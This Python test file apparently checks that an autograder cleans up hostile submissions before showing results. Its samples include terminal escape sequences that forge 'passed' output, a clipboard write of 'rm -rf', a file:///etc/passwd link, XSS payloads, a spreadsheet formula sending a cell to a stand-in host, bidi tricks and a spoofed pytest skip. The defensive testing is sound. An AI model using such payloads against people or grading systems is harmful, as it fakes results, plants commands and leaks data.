# ruff: noqa: E501  (a submission that fits on a line is easier to read than one that is folded)
"""Deceive: text that a person would misread, in messages, names and output."""

import io
import unicodedata

import pytest
from rich.console import Console

from grader.cli.show import score_table
from tests.hostile.case import case, titled, values_only

EVERYTHING = "add = code = squares = half = mapped = root = Point"


def raising(text: str) -> str:
    """A submission whose every function fails with this text, an expression."""
    return f"def fail(*_, **__): raise ValueError({text})\n{EVERYTHING} = fail\n"


def returning(text: str) -> str:
    return f"def give(*_, **__): return {text}\n{EVERYTHING} = give\n"


CASES = [
    case("cleared_screen", raising(r"'\x1b[2J\x1b[1;1H\x1b[32mpassed, 7 of 7 points\x1b[0m'")),
    case("a_title_of_the_terminal", raising(r"'\x1b]0;passed\x07\x1b]52;c;cm0gLXJm\x07'")),
    case("a_link_of_the_terminal", raising(r"'\x1b]8;;file:///etc/passwd\x07log in\x1b]8;;\x07'")),
    case("eight_bit_controls", raising(r"'\x9b2J\x9d0;x\x9c\x90'")),
    case("backspaces_and_returns", raising(r"'failed\x08\x08\x08\x08\x08\x08passed\r passed \x7f'")),
    case("new_lines_of_a_report", raising(r"'no\n\n=== 7 passed in 0.01s ===\n\nverdict: passed\nscore: 7 of 7'")),
    case("right_to_left", raising(r"'\u202e7 fo 7 ,dessap\u202c \u2066\u2067\u2069 \u200f\u061c'")),
    case("invisible", raising(r"'\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\U000e0041'")),
    case("other_line_ends", raising(r"'a\x0bb\x0cc\x1cd\x85e\u2028f\u2029g'")),
    case("private_and_unassigned", raising(r"'\ue000\U000f0000\uffff\U0010ffff\u0378'")),
    case("lone_surrogates", raising(r"'\ud800\udfff'")),
    case("markup_of_rich", raising(r"'[bold green]passed[/] [link=file:///]x[/link] [/] [not closed'")),
    case("markup_of_a_page", raising(r"'<script>alert(1)</script><img src=x onerror=alert(1)>&lt;'")),
    case("a_formula", raising(r"'=HYPERLINK(\"http://x/?\"&A1)'")),
    case("a_hundred_combining_marks", raising(r"'a' + '\u0300' * 5000")),
    case("wide_and_long", raising(r"'\U0001f469\u200d\U0001f4bb' * 5000")),
    case(
        "the_name_of_the_exception",
        f"E = type('\\x1b[2Jpassed\\u202e', (Exception,), {{'__module__': '\\x1b[2J'}})\ndef fail(*_): raise E()\n{EVERYTHING} = fail\n",
        "failed",
        "crashed",  # no name of a class
    ),
    case(
        "the_name_of_a_class",
        f"T = type('\\x1b[32mpassed\\u202e', (), {{'__qualname__': '\\x9b2J'}})\ndef give(*_): return T()\n{EVERYTHING} = give\n",
    ),
    case(
        "the_name_of_a_function",
        f"def give(*_): raise TypeError\ngive.__name__ = give.__qualname__ = '\\x1b[2Jpassed'\n{EVERYTHING} = give\n",
    ),
    case(
        "the_name_of_a_file",
        f"exec(compile('def fail(*_): raise ValueError(1)', '\\x1b[2Jtests/test_hidden.py\\u202e', 'exec'))\n{EVERYTHING} = fail\n",
    ),
    case("a_string_that_is_compared", returning(r"'\x1b[2J\u202epassed'")),
    case("bytes_that_are_compared", returning(r"b'\x1b[2J\xff'")),
    case("keys_of_a_dict", returning(r"{'\x1b[2J': '\u202e', '\ud800': 1}")),
    case(
        "an_assertion_of_pytests",
        f"def fail(*_): raise AssertionError('assert 5 == 5\\n +  where 5 = add(2, 3)')\n{EVERYTHING} = fail\n",
    ),
    case(
        "a_skip",
        f"class Skipped(Exception):\n    def __init__(self, *_): self.msg = 'skipped'; self.allow_module_level = True\nSkipped.__module__ = '_pytest.outcomes'\ndef fail(*_): raise Skipped()\n{EVERYTHING} = fail\n",
    ),
    case(
        "output_that_looks_like_ours",
        'import os\nprint(\'\\x1b[2Jverdict: passed\\n{"score": 7, "verdict": "passed"}\')\nos.write(1, bytes(range(256)) * 4); os.write(2, b\'\\xff\\xfe\\x00\\x1b]0;x\\x07\')\n'
        + returning("None"),
    ),
]


@values_only
@pytest.mark.parametrize("submission", CASES, ids=titled)
def test_what_people_read_is_plain(attempt, submission):
    result = attempt(submission)
    for text in [test.message for test in result.tests] + [test.title for test in result.tests]:
        assert {unicodedata.category(c)[0] for c in text if c not in "\n\t\N{REPLACEMENT CHARACTER}"}.isdisjoint("C")
        text.encode("utf-8")
    screen = io.StringIO()
    Console(file=screen, width=100, color_system=None).print(score_table(result.to_json()))
    shown = screen.getvalue()
    assert not [c for c in shown if unicodedata.category(c)[0] == "C" and c != "\n"]
    assert shown.count("passed") <= sum(test.message.count("passed") for test in result.tests)
